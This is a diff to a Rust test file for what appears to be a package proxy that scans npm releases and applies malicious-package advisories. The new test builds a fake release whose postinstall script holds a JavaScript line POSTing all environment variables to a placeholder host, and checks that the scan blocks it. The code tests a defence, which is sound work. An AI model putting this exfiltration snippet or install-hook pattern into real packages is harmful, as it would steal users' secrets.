@@ -4,7 +4,7 @@
 use std::time::Duration;
 
 use fanlight_testkit::clients::{JsClient, JsKind, JsRoom};
-use fanlight_testkit::{Node, NpmRelease, Output, Request, State, Upstream, get};
+use fanlight_testkit::{Advisory, Node, NpmRelease, Output, Request, State, Upstream, get};
 use fanlight_tests::{published_an_hour_ago, records_of, refuse};
 
 struct Scene {
@@ -297,4 +297,35 @@ fn clients_are_led_to_the_door_by_their_own_settings_and_back() {
         cli(&["use", name, "--undo"]).ok();
         assert_eq!(std::fs::read_to_string(&settings).expect("settings"), before, "{}", client.name);
     }
+}
+
+/// Reads as theft and does nothing: no variable of that name is ever set.
+const THEFT: &str = "if (process.env.NEVER_SET_ANYWHERE) {\n  fetch('http://c.example.invalid', {method: 'POST', body: JSON.stringify(process.env)});\n}\n";
+
+#[test]
+fn npm_is_told_what_the_scan_found_and_what_an_advisory_calls_malicious() {
+    let upstream = Upstream::start();
+    for release in [
+        NpmRelease::new("harmful", "1.0.0")
+            .with("scripts", serde_json::json!({"postinstall": "node after.js"}))
+            .with_file("after.js", THEFT),
+        NpmRelease::new("harmful", "0.9.0").days_old(60),
+        NpmRelease::new("evil", "1.0.0"),
+    ] {
+        upstream.add_npm(&release);
+    }
+    let state = State::before(&upstream, "");
+    state.advise(&Advisory::npm("MAL-2026-77", "evil").summary("it reads keys"));
+    let settings = format!("[advisories]\nsources = [{:?}]\n", state.feed().display().to_string());
+    state.configure(&State::config(&upstream, "7d", &settings));
+    let node = state.start();
+    let npm = JsClient::all().iter().find(|client| client.kind == JsKind::Npm).expect("npm");
+    let room = npm.room(&node.registry());
+    room.add("harmful@1.0.0").fails().says("the scan of harmful-1.0.0.tgz found: collects private data");
+    room.add("evil").fails().says("evil 1.0.0 is malicious (MAL-2026-77: it reads keys)");
+    // Who asks for a range from now on gets what was before, without a word.
+    let room = npm.room(&node.registry());
+    room.add("harmful@>=0").ok();
+    assert_eq!((room.installed("harmful").as_deref(), room.installed("evil")), (Some("0.9.0"), None));
+    state.cli(&["why", "pkg:npm/harmful"]).says("collects private data and sends it away (package/after.js:2)");
 }
